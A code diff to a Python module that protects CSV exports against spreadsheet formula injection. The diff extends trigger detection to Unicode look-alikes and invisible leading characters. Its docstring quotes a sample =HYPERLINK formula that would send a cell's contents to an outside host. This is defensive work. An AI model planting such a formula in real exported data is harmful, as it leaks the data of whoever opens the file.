@@ -3,8 +3,12 @@
 A title such as `=HYPERLINK("http://…?x="&A1,"Klicka")` would run as a formula when the
 CSV is opened in Excel or LibreOffice. OWASP's advice: a cell that starts with `=`, `+`,
 `-`, `@`, a tab or a carriage return gets a leading `'`, which the spreadsheet shows as
-text. Plain numbers (`-3`, `+4,5`) cannot be formulas and stay as they are; fullwidth
-forms (`＝`) count as what they fold to. `trygghet import` removes the `'` again.
+text. Plain numbers (`-3`, `+4,5`) cannot be formulas and stay as they are; fullwidth and
+small forms (`＝`, `﹦`, `＋`, `﹢`, `－`, `﹣`, `＠`, `﹫`) count as what they fold to, every
+minus and dash look-alike as `-`, and invisible format characters before the first visible
+one are looked through. `trygghet import` removes the `'` again.
+
+One function for every CSV trygghet writes: export, status, overview and the site's open data.
 """
 
 from __future__ import annotations
@@ -17,19 +21,36 @@ TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 _NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
 
 
+_MINUS_LIKE = {"\u2212", "\u2796", "\u2795"}
+
+
+def _first_as_spreadsheet_reads(text: str) -> str:
+    """The first character that counts, folded: format characters (ZWSP, BOM) skipped."""
+    for char in text:
+        if unicodedata.category(char) == "Cf":
+            continue
+        first = unicodedata.normalize("NFKC", char)[:1]
+        if char in _MINUS_LIKE or unicodedata.category(first) == "Pd":
+            return "+" if char == "\u2795" else "-"
+        return first
+    return ""
+
+
+def starts_like_formula(text: str) -> bool:
+    """Whether a spreadsheet could take the text for a formula (numbers never)."""
+    return _first_as_spreadsheet_reads(text) in TRIGGERS and not _NUMBER.fullmatch(text)
+
+
 def inert(cell: object) -> object:
     """The cell as written to a CSV file: text a spreadsheet would run gets a leading `'`."""
-    if not isinstance(cell, str) or not cell:
-        return cell
-    first = unicodedata.normalize("NFKC", cell[0])[:1]
-    if first in TRIGGERS and not _NUMBER.fullmatch(cell):
+    if isinstance(cell, str) and cell and starts_like_formula(cell):
         return "'" + cell
     return cell
 
 
 def restored(cell: str) -> str:
     """A cell read back from a CSV file trygghet wrote: the `'` that inert() added removed."""
-    if cell[:1] == "'" and unicodedata.normalize("NFKC", cell[1:2])[:1] in TRIGGERS:
+    if cell[:1] == "'" and starts_like_formula(cell[1:]):
         return cell[1:]
     return cell
 
